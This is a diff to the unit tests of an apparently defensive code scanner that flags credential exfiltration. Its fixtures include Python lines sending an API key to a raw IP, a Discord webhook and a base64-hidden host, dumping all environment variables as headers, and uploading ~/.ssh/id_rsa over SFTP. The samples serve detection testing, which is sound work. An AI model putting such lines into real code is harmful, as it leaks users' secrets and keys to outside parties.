@@ -51,6 +51,30 @@ public sealed class ExfilRuleTests
     }
 
     [Fact]
+    public void AnApiKeyUsedToAuthenticateToItsServiceIsReviewed()
+    {
+        var code = "import os, requests\nkey = os.environ['OPENAI_API_KEY']\n" +
+            "requests.post('https://api.openai.com/v1/chat/completions', headers={'Authorization': f'Bearer {key}'}, json={'model': 'm'})";
+        var result = TestScanner.Scan(code);
+        var finding = result.Findings.Single(f => f.RuleId == "PG601");
+        finding.Severity.ShouldBe(Severity.Warning);
+        finding.Message.ShouldContain("as a credential for api.openai.com");
+        result.Verdict.ShouldBe(Verdict.Review);
+    }
+
+    [Theory]
+    [InlineData("requests.post('http://203.0.113.5/v1', headers={'Authorization': key})")]
+    [InlineData("requests.post('https://discord.com/api/webhooks/1/x', headers={'X': key})")]
+    [InlineData("requests.post('https://api.example.com/v1', headers={'Authorization': key}, json={'echo': key})")]
+    [InlineData("requests.post('https://api.example.com/v1', headers=dict(os.environ))")]
+    [InlineData("requests.post(base64.b64decode('aHR0cHM6Ly9jLmV4YW1wbGUubmV0').decode(), headers={'Authorization': key})")]
+    public void CredentialsSentAnywhereElseAreBlocked(string sink)
+    {
+        var code = "import os, base64, requests\nkey = os.environ['OPENAI_API_KEY']\n" + sink;
+        TestScanner.Findings(code).ShouldContain(f => f.RuleId == "PG601" && f.Severity == Severity.Error);
+    }
+
+    [Fact]
     public void AFileUploadedByPathOverSftpIsSent()
     {
         var code = "import os, paramiko\nc = paramiko.SSHClient()\nsftp = c.open_sftp()\nsftp.put(os.path.expanduser('~/.ssh/id_rsa'), '/tmp/k')";
